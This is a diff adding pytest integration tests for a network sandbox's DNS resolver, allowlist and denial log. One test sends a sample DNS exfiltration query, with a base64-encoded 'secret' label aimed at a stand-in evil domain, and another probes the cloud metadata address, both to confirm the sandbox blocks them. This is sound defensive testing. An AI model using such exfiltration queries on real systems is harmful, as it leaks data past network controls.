@@ -1,0 +1,364 @@
+"""The built-in resolver and the denial log of mini-tapbox (issue 7).
+
+A stub DNS server started by each test on 127.0.0.1 records every query it
+receives and is passed as --resolver: it serves the start-up resolution of
+domain entries and the on-demand answers for *.domain entries, so the tests
+can check from the host side which names left the sandbox.  Blocked
+destinations are only ever rejected inside the sandbox's network namespace
+(nothing leaves the machine); allowed connections go to the test hosts of
+tests/integration/testhosts.sh or to servers the test starts on loopback.
+"""
+import json
+import os
+import socket
+import struct
+import subprocess
+import threading
+import time
+
+import pytest
+
+from conftest import TAPBOX, sandbox
+
+PY = "/usr/bin/python3"
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+# Addresses used only as DNS answers.  Connections to them are rejected by
+# the ruleset inside the sandbox (they are not on any allowlist port), so no
+# packet to them ever leaves the machine.
+DOC4 = "192.0.2.10"
+DOC6 = "2001:db8::10"
+
+
+# --- a recording stub resolver -------------------------------------------------
+
+def _read_name(msg, off):
+    labels = []
+    while True:
+        n = msg[off]
+        if n == 0:
+            return ".".join(labels).lower(), off + 1
+        if n & 0xC0:
+            raise ValueError("compressed question")
+        labels.append(msg[off + 1:off + 1 + n].decode("ascii", "replace"))
+        off += 1 + n
+
+
+class StubResolver:
+    """UDP DNS server on 127.0.0.1.  RECORDS: {name: [(qtype, addr, ttl), ...]};
+    names not in RECORDS get NXDOMAIN.  Every query is appended to .queries
+    as (name, qtype)."""
+
+    def __init__(self, records):
+        self.records = records
+        self.queries = []
+        self.lock = threading.Lock()
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.stopping = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    @property
+    def addr(self):
+        return "127.0.0.1:%d" % self.port
+
+    def seen(self, needle):
+        with self.lock:
+            return [q for q in self.queries if needle in q[0]]
+
+    def _answer(self, q):
+        name, off = _read_name(q, 12)
+        qtype, = struct.unpack(">H", q[off:off + 2])
+        with self.lock:
+            self.queries.append((name, qtype))
+        question = q[12:off + 4]
+        if name not in self.records:
+            return q[:2] + b"\x81\x83" + struct.pack(">HHHH", 1, 0, 0, 0) + question
+        rrs = []
+        for rtype, addr, ttl in self.records[name]:
+            if rtype != qtype:
+                continue
+            fam = socket.AF_INET6 if rtype == 28 else socket.AF_INET
+            data = socket.inet_pton(fam, addr)
+            rrs.append(b"\xc0\x0c" + struct.pack(">HHIH", rtype, 1, ttl, len(data)) + data)
+        return (q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, len(rrs), 0, 0) + question +
+                b"".join(rrs))
+
+    def _serve(self):
+        while not self.stopping:
+            try:
+                q, peer = self.sock.recvfrom(4096)
+            except socket.timeout:
+                continue
+            except OSError:
+                return
+            try:
+                self.sock.sendto(self._answer(q), peer)
+            except (ValueError, IndexError, struct.error):
+                pass
+
+    def close(self):
+        self.stopping = True
+        self.thread.join(timeout=5)
+        self.sock.close()
+
+
+@pytest.fixture
+def stub():
+    servers = []
+
+    def make(records):
+        s = StubResolver(records)
+        servers.append(s)
+        return s
+    yield make
+    for s in servers:
+        s.close()
+
+
+# --- the test hosts of testhosts.sh ---------------------------------------------
+
+def find_testhost():
+    """(address, tcp port) of a test host in its own network namespace, with
+    a server listening, as created by testhosts.sh (run as root before the
+    tests).  Fails loudly when the hosts are not up."""
+    script = os.path.join(HERE, "testhosts.sh")
+    assert os.access(script, os.X_OK), "tests/integration/testhosts.sh is missing"
+    r = subprocess.run([script, "info"], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                       text=True, timeout=10)
+    assert r.returncode == 0, "test hosts are not up (run testhosts.sh up as root): " + r.stderr
+    info = dict(line.split("=", 1) for line in r.stdout.split() if "=" in line)
+    return info["HOST1_V4"], int(info["HOST1_TCP_PORT"])
+
+
+# --- helpers -----------------------------------------------------------------
+
+# In-sandbox DNS client: sends one raw query to the built-in resolver and
+# prints "rcode ancount" (or "timeout").
+RAW_QUERY = r'''
+import socket, struct, sys
+def q(name, qtype, server="10.0.2.3", raw=None):
+    fam = socket.AF_INET6 if ":" in server else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    if raw is None:
+        raw = struct.pack(">HHHHHH", 0x4d53, 0x0100, 1, 0, 0, 0) + b"".join(
+            bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
+    s.sendto(raw, (server, 53))
+    try:
+        r = s.recv(4096)
+    except socket.timeout:
+        return "timeout"
+    return "%d %d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
+'''
+
+
+def tapbox(args, cmd, workdir, timeout=60):
+    return sandbox(*args, "--", *cmd, tapbox=True, cwd=workdir, timeout=timeout)
+
+
+def py(code):
+    return [PY, "-c", code]
+
+
+def log_records(path):
+    with open(path) as f:
+        return [json.loads(line) for line in f if line.strip()]
+
+
+# --- tests -------------------------------------------------------------------
+
+def test_allowlisted_a_and_aaaa_answered_inside(stub, workdir):
+    dns = stub({"good.test": [(1, DOC4, 300), (28, DOC6, 300)]})
+    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
+               py("import socket\n"
+                  "for fam in (socket.AF_INET, socket.AF_INET6):\n"
+                  "    for ai in socket.getaddrinfo('good.test', 443, fam, socket.SOCK_STREAM):\n"
+                  "        print(ai[4][0])\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split() == [DOC4, DOC6]
+    # the answers came from the start-up resolution: only that reached the stub
+    assert len(dns.seen("good.test")) <= 4, dns.queries
+
+
+def test_other_name_nxdomain_and_never_leaves(stub, workdir):
+    dns = stub({"good.test": [(1, DOC4, 300)]})
+    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
+               py(RAW_QUERY +
+                  "print(q('evil.test', 1))\n"
+                  "print(q('c2VjcmV0.exfil.evil.test', 16))\n"
+                  "print(q('good.test', 15))\n"           # other type, allowlisted
+                  "print(q('good.test', 1))\n"
+                  "print(q('evil.test', 28, server='fd00::3'))\n"
+                  "import socket\n"
+                  "try:\n"
+                  "    socket.getaddrinfo('evil.test', 80)\n"
+                  "    print('resolved')\n"
+                  "except socket.gaierror as e:\n"
+                  "    print('gaierror')\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split("\n")[:6] == ["3 0", "3 0", "0 0", "0 1", "3 0", "gaierror"]
+    assert dns.seen("evil") == [], dns.queries
+
+
+def test_malformed_queries_do_not_hurt(stub, workdir):
+    dns = stub({"good.test": [(1, DOC4, 300)]})
+    loop = "struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + bytes([1, 97, 0xc0, 12, 0, 1, 0, 1])"
+    two = ("struct.pack('>HHHHHH', 8, 0x100, 2, 0, 0, 0) + (bytes([1, 97, 0, 0, 1, 0, 1]) * 2)")
+    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
+               py(RAW_QUERY +
+                  "print(q(None, 0, raw=%s))\n" % loop +
+                  "print(q(None, 0, raw=%s))\n" % two +
+                  "print(q(None, 0, raw=b'\\x01'))\n" +             # too short: no answer
+                  "print(q(None, 0, raw=bytes(range(256)) * 4))\n" +
+                  "print(q('a' * 63 + '.' + 'b' * 63 + '.' + 'c' * 63 + '.' + 'd' * 63, 1))\n" +
+                  "print(q('good.test', 1))\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    lines = r.stdout.split("\n")
+    assert lines[0] == "1 0"          # compression loop: FORMERR
+    assert lines[1] == "1 0"          # two questions: FORMERR
+    assert lines[2] == "timeout"      # shorter than a header: dropped
+    assert lines[4] in ("1 0", "3 0")  # oversize name: FORMERR (or NXDOMAIN)
+    assert lines[5] == "0 1"          # and the resolver still answers
+    assert dns.seen("good.test") and not dns.seen("aaaa")
+
+
+def test_tcp_to_port_53_refused(stub, workdir):
+    dns = stub({"good.test": [(1, DOC4, 300)]})
+    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
+               py("import socket, time\n"
+                  "for addr in ('10.0.2.3', 'fd00::3'):\n"
+                  "    t = time.monotonic()\n"
+                  "    try:\n"
+                  "        socket.create_connection((addr, 53), timeout=5)\n"
+                  "        print('connected')\n"
+                  "    except ConnectionRefusedError:\n"
+                  "        print('refused', time.monotonic() - t < 1)\n"
+                  "    except OSError as e:\n"
+                  "        print('error', e.errno)\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split("\n")[:2] == ["refused True", "refused True"]
+
+
+def test_log_file_and_verbose_list_each_denial(stub, workdir, tmp_path):
+    dns = stub({"good.test": [(1, DOC4, 300)]})
+    log = tmp_path / "denials.jsonl"
+    r = tapbox(["-v", "--log", str(log), "--resolver", dns.addr, "--allow", "good.test:443"],
+               py(RAW_QUERY +
+                  "print(q('evil.test', 1))\n"
+                  "print(q('other.evil.test', 28))\n"
+                  "import socket\n"
+                  "for dst in (('good.test', 80), ('192.0.2.99', 8080)):\n"
+                  "    try:\n"
+                  "        socket.create_connection(dst, timeout=5)\n"
+                  "    except ConnectionRefusedError:\n"
+                  "        print('refused')\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split() == ["3", "0", "3", "0", "refused", "refused"]
+    recs = log_records(log)
+    names = [(x["name"], x["qtype"]) for x in recs if x["event"] == "name"]
+    assert names == [("evil.test", "A"), ("other.evil.test", "AAAA")]
+    conns = [x for x in recs if x["event"] == "connection"]
+    assert {"proto": "tcp", "addr": DOC4, "port": 80, "name": "good.test"}.items() <= \
+        conns[0].items()
+    assert any(c["addr"] == "192.0.2.99" and c["port"] == 8080 and "name" not in c
+               for c in conns), conns
+    assert all(x["time"].endswith("Z") for x in recs)
+    assert recs[-1]["event"] == "summary"
+    assert recs[-1]["names"] == 2 and recs[-1]["connections"] == len(conns)
+    # -v: the same denials on stderr, and the summary line at exit
+    assert "denied: name evil.test (A)" in r.stderr
+    assert "denied: tcp to %s:80 (good.test)" % DOC4 in r.stderr
+    assert "denied: tcp to 192.0.2.99:8080" in r.stderr
+    assert "mini-tapbox: blocked %d connections, 2 names" % len(conns) in r.stderr
+
+
+def test_summary_line_without_verbose(stub, workdir):
+    dns = stub({"good.test": [(1, DOC4, 300)]})
+    r = tapbox(["--resolver", dns.addr, "--allow", "good.test:443"],
+               py(RAW_QUERY + "q('evil.test', 1)\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert "mini-tapbox: blocked 0 connections, 1 name" in r.stderr
+    assert "denied:" not in r.stderr     # details only with -v / --log
+
+
+def test_wildcard_resolved_on_demand_and_connects(stub, workdir):
+    host, port = find_testhost()
+    dns = stub({"a.example.test": [(1, host, 60)],
+                "example.test.evil": [(1, host, 60)]})
+    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
+               py("import socket\n"
+                  "s = socket.create_connection(('a.example.test', %d), timeout=10)\n"
+                  "print('connected')\n"
+                  "s.close()\n"
+                  "try:\n"
+                  "    socket.getaddrinfo('example.test.evil', %d)\n"
+                  "    print('resolved')\n"
+                  "except socket.gaierror:\n"
+                  "    print('nxdomain')\n" % (port, port)), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split() == ["connected", "nxdomain"]
+    assert ("a.example.test", 1) in dns.queries
+    assert dns.seen("evil") == [], dns.queries
+
+
+def test_wildcard_answer_in_refused_range_not_added(stub, workdir, tmp_path):
+    dns = stub({"meta.example.test": [(1, "169.254.169.254", 60), (1, DOC4, 60)],
+                "lo.example.test": [(1, "127.0.0.1", 60)]})
+    log = tmp_path / "log.jsonl"
+    r = tapbox(["--log", str(log), "--resolver", dns.addr, "--allow", "*.example.test"],
+               py(RAW_QUERY +
+                  "import socket\n"
+                  "print(sorted(a[4][0] for a in socket.getaddrinfo('meta.example.test', 80,"
+                  " socket.AF_INET, socket.SOCK_STREAM)))\n"
+                  "print(q('lo.example.test', 1))\n"
+                  "try:\n"
+                  "    socket.create_connection(('169.254.169.254', 80), timeout=5)\n"
+                  "except ConnectionRefusedError:\n"
+                  "    print('refused')\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split("\n")[:3] == ["['%s']" % DOC4, "0 0", "refused"]
+    refused = {x["addr"] for x in log_records(log) if x["event"] == "answer"}
+    assert refused == {"169.254.169.254", "127.0.0.1"}
+    assert any(x["event"] == "connection" and x["addr"] == "169.254.169.254"
+               for x in log_records(log))
+
+
+def test_wildcard_address_expires_with_ttl(stub, workdir):
+    host, port = find_testhost()
+    dns = stub({"short.example.test": [(1, host, 1)]})
+    # Resolve once, connect at once (allowed), then keep opening new
+    # connections until the set entry times out; bounded by a deadline.
+    r = tapbox(["--resolver", dns.addr, "--allow", "*.example.test"],
+               py("import socket, time\n"
+                  "addr = socket.getaddrinfo('short.example.test', %d, socket.AF_INET)[0][4][0]\n"
+                  "t0 = time.monotonic()\n"
+                  "socket.create_connection((addr, %d), timeout=10).close()\n"
+                  "print('connected')\n"
+                  "while time.monotonic() - t0 < 40:\n"
+                  "    try:\n"
+                  "        socket.create_connection((addr, %d), timeout=10).close()\n"
+                  "    except ConnectionRefusedError:\n"
+                  "        print('expired after %%.1f' %% (time.monotonic() - t0))\n"
+                  "        break\n"
+                  "    time.sleep(0.25)\n"
+                  "else:\n"
+                  "    print('never expired')\n" % (port, port, port)), workdir, timeout=90)
+    assert r.returncode == 0, r.stderr
+    out = r.stdout.split("\n")
+    assert out[0] == "connected"
+    assert out[1].startswith("expired after"), out
+    # TTL 1 is raised to the 5 s floor; the kernel's gc may take a little longer
+    assert 3.0 <= float(out[1].split()[-1]) <= 30.0, out
+
+
+def test_unrestricted_tapbox_relays_queries(stub, workdir):
+    dns = stub({"any.test": [(1, DOC4, 60)]})
+    r = tapbox(["--resolver", dns.addr],
+               py(RAW_QUERY + "print(q('any.test', 1))\nprint(q('nope.test', 16))\n"), workdir)
+    assert r.returncode == 0, r.stderr
+    assert r.stdout.split("\n")[:2] == ["0 1", "3 0"]
+    assert ("any.test", 1) in dns.queries and ("nope.test", 16) in dns.queries
